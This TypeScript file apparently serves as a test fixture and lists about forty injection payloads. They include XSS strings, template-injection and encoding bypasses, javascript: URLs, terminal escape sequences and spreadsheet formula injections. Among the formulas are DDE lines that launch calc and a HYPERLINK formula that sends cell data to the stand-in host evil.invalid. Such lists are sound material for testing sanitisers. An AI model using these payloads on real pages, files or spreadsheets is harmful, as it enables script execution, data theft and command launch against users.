/** Forty texts that have run, drawn or moved something where a page, a spreadsheet or a terminal took data for more. */
export const injections: readonly string[] = [
  // Elements.
  '<script>window.ran=1</script>',
  '<img src=x onerror=window.ran=2>',
  '<svg onload=window.ran=3>',
  '<svg><script href=data:,window.ran=4 />',
  '<iframe srcdoc="<script>parent.ran=5</script>"></iframe>',
  '<details open ontoggle=window.ran=6>',
  '<body onpageshow=window.ran=7>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=8>',
  '<object data="data:text/html,<script>parent.ran=9</script>"></object>',
  '<embed src="//evil.invalid/x">',
  '<base href="//evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
  '<link rel=stylesheet href=//evil.invalid/x.css>',
  '<form action=//evil.invalid/><button>Run</button></form>',
  '<scr<script>ipt>window.ran=15</scr</script>ipt>',
  // The end of what they stand in.
  '"><script>window.ran=16</script>',
  "' autofocus onfocus=window.ran=17 x='",
  '" style="position:fixed;inset:0;background:url(//evil.invalid/x)" x="',
  '</title><script>window.ran=19</script>',
  '</script><script>window.ran=20</script>',
  '</textarea></pre></style><script>window.ran=21</script>',
  '--><script>window.ran=22</script><!--',
  ']]><script>window.ran=23</script>',
  // Texts that are decoded once too often, or taken for a template.
  '&lt;script&gt;window.ran=24&lt;/script&gt;',
  '%3Cscript%3Ewindow.ran=25%3C/script%3E',
  '\\u003cscript\\u003ewindow.ran=26\\u003c/script\\u003e',
  '{{constructor.constructor("window.ran=27")()}}',
  '$' + '{window.ran=28}`#{window.ran=28}<%= window.ran=28 %>',
  // Addresses.
  'javascript:window.ran=29',
  ' java\tscript:window.ran=30//https://example.com/',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTMxPC9zY3JpcHQ+',
  '//evil.invalid/',
  // Formulas.
  '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0\t=1+1\r\n=1+1",
  // What terminals, names and lengths do.
  '\u001b]8;;http://evil.invalid/\u0007x\u001b[2J\u0000\u009b31m',
  '\u202egnp.exe\u2066\u200b\ufeff',
  '__proto__',
  `<b>${'A'.repeat(500)}`,
]
